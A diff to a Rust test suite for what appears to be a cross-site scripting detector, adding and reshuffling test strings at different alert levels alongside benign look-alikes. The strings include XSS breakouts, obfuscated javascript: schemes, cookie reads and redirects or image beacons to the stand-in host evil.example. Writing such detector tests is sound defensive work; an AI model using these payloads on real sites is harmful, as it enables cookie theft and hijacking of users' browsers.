@@ -56,6 +56,8 @@ fn unmistakable_markup_is_low() {
             "  vbscript:msgbox(1)",
             "<x onmouseover=\"go()\">hover",
             "x<script>",
+            "\";alert(1)//",
+            "'-confirm`1`-'",
         ],
     );
 }
@@ -65,9 +67,8 @@ fn script_fragments_and_breakouts_are_medium() {
     at_level(
         Medium,
         &[
-            "\";alert(1)//",
-            "'-alert(1)-'",
-            "'}));confirm(2)//",
+            "'-foo(1)-'",
+            "'}));next(2)//",
             "alert`1`",
             "(prompt)(1)",
             "[7].find(alert)",
@@ -77,6 +78,8 @@ fn script_fragments_and_breakouts_are_medium() {
             "x=document.cookie",
             "new Image().src='//e.example/?'+document.domain",
             "window.location='//evil.example'",
+            "top.location.href='//evil.example'",
+            "x=parent.name;",
             "location=name",
             "[].constructor.constructor('go()')()",
             "el.innerHTML=payload",
@@ -102,12 +105,25 @@ fn script_fragments_and_breakouts_are_medium() {
             "<div style=\"background:url(x.png)\">x</div>",
             "<details open ontoggle>x",
             "<!DOCTYPE html><b>x</b>",
-            "<?xml version=\"1.0\"?><x/>",
             "<?xml-stylesheet type=\"text/xsl\" href=\"#\"?>",
             "<html xmlns:v>",
+            "<a xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\" xsi:schemaLocation=\"x //e.example/a.xsd\"/>",
             "<xsl:template match=\"/\">",
             "<a href=\"data:application/octet-stream;base64,AAAA\">x</a>",
             "<![endif]-->",
+            "document /*x*/ . cookie",
+            "(document)[\"cookie\"]",
+            "self /*a*/ [ /*b*/ 'go' ](1)",
+            "new Function('go()')()",
+            "[].map.call`${eval}x`",
+            "[ ] . sort . call ` ${ alert } 1 `",
+            "(![]+[])[+!![]]",
+            "ja\tvascript:",
+            "\"onzoom=",
+            "'formaction=//evil.example",
+            "onload=",
+            "<!--#echo var=\"x\"-->",
+            "x:url(javascript",
         ],
     );
 }
@@ -124,6 +140,10 @@ fn weak_signals_are_high() {
             "List<Object> items",
             "<b title=\"data:image/png;base64,AAAA\">x</b>",
             "<![CDATA[x]]>",
+            "x <f o r m",
+            "step 1 --> step 2",
+            "<?xml version=\"1.0\"?><x/>",
+            "<svg></svg>",
         ],
     );
 }
@@ -152,6 +172,9 @@ fn benign_look_alikes_pass_at_medium() {
         "Map<String, Object> values",
         "Please confirm (by Friday)",
         "alert(s) raised",
+        "use alert() sparingly",
+        "sort=parent.name,created_at",
+        "The parent.name field",
         "Set an alert for 9am",
         "O'Brien - Smith",
         "the document.pdf file",
@@ -167,6 +190,12 @@ fn benign_look_alikes_pass_at_medium() {
         "window.open is blocked by the browser",
         "behavior: polite",
         "I <3 <img> tags",
+        "Sign the document. Location: Berlin",
+        "VGhhbmtzIGFsbA/onafe=",
+        "wow!! [sic] (really!)",
+        "<?xpacket begin=\"\"?><x:xmpmeta xmlns:x=\"adobe:ns:meta/\">",
+        "Tap [OK] (twice) !!",
+        "a <b c d> e",
     ] {
         assert_ne!(level(case), Some(Low), "{case:?}");
         assert_ne!(level(case), Some(Medium), "{case:?}");
@@ -175,7 +204,12 @@ fn benign_look_alikes_pass_at_medium() {
 
 #[test]
 fn xml_bodies_expect_prologs_and_namespaces() {
-    for text in [&b"<?xml version=\"1.0\"?>"[..], b"<!DOCTYPE note>", b"<x xmlns:a=\"urn:a\"/>"] {
+    let documents = [
+        &b"<?xml-stylesheet type=\"text/xsl\" href=\"#s\"?>"[..],
+        b"<!DOCTYPE note>",
+        b"<x xmlns:h=\"http://www.w3.org/1999/xhtml\"/>",
+    ];
+    for text in documents {
         let lower = text.to_ascii_lowercase();
         let xml = Subject::plain(text, &lower, Place::Xml);
         assert!(!detect(&xml, Medium), "{:?}", String::from_utf8_lossy(text));
